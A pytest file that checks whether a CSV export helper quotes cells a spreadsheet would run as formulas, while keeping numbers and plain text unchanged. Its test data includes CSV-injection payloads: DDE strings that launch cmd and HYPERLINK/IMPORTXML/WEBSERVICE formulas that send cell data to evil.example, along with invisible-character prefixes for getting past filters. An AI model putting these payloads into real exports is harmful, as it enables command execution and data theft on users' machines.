"""Cells of an export: text is never a formula, numbers are numbers."""

from __future__ import annotations

import csv
import io
from decimal import Decimal

import pytest

from agent.teams.pages.csv_cells import csv_row, safe_cell
from tests.tables import each

STARTS = ["=", "+", "-", "@", "|", "%", "＝", "＋", "－", "＠", "﹢", "﹣", "﹦", "﹫", "−"]
BEFORE = ["", " ", "   ", "\t", "\r", "\n", "\r\n", "\ufeff", "\u00a0", "\u200b", "\u200d", "\u2060", "\u202e",
          "\u3000", "\x00", "\x1b", "\u00ad", "\u0301", ";", ",", " ; ", "\u2028", "\u180e"]  # fmt: skip
FORMULAS = [
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(A1)",
    "=cmd|' /C calc'!A0",
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    '=HYPERLINK("https://evil.example/?x="&A1,"Click")',
    '=IMPORTXML(CONCAT("https://evil.example/?v=",A1),"//a")',
    '=WEBSERVICE("https://evil.example/")',
    "=DDE(\"cmd\";\"/C calc\";\"!A0\")",
    "%0A=1",
    "−1",
    "-",
    "=",
    "==1",
    "='",
    '="1"',
    "= 1",
    "\t",
    "\rx",
    "\nx",
]  # fmt: skip
PLAIN = [
    "Hamster",
    "35 USD",
    "a=b",
    "",
    "'quoted'",
    "2 + 2 = 4",
    "user@shop.example",
    "3-5 days",
    "50% off",
    "A|B",
    "“−5 °C”",
    "x\ny",
    "a;b",
    "https://shop.example/?a=1&b=-2",
    "ü=1",
    "(=1)",
]


@each("text", [*FORMULAS, *(b + s + "1" for b in BEFORE for s in STARTS)])
def test_it_quotes_what_a_spreadsheet_would_run(text: str) -> None:
    cell = safe_cell(text)
    assert isinstance(cell, str)
    assert cell.startswith("'")
    assert cell.replace("'", "") == text.replace("'", "")


@each("text", PLAIN)
def test_it_leaves_plain_text_alone(text: str) -> None:
    assert safe_cell(text) == text


@each("text", ["a;=1+1", "a\n=1+1", "a\r\n@x", "a\t+1", "a; =1", 'a;"=1', "x\n\u00a0-1", "a;＝1", "a;=1;=2"])
def test_no_cell_begins_with_a_formula_where_lists_are_separated_otherwise(text: str) -> None:
    """The same line, read with other separators, and cut at every line break as careless readers do."""
    row = csv_row([1, text, "end"])
    for reading in (list(csv.reader(io.StringIO(row), delimiter=d)) for d in ",;\t"):
        assert [c for line in reading for c in line if c.strip(' "\u00a0')[:1] in [*"=+@", "＝"]] == []
    assert [line for line in row.splitlines() if line[:1] in [*"=+@-", "＝"]] == []


@pytest.mark.parametrize("number", [Decimal("-3.50"), Decimal(0), -4, 1.5, -0.25, 10**12])
def test_it_keeps_numbers_as_numbers(number: object) -> None:
    assert safe_cell(number) == number
    assert csv_row([number]) == f"{number}\r\n"


def test_it_writes_nothing_for_none_and_words_for_truth() -> None:
    assert safe_cell(None) == ""
    assert safe_cell(True) == "True"


def test_every_text_stands_in_quotes() -> None:
    assert csv_row(["a", 'say "x"', None, 1]) == '"a","say ""x""","",1\r\n'
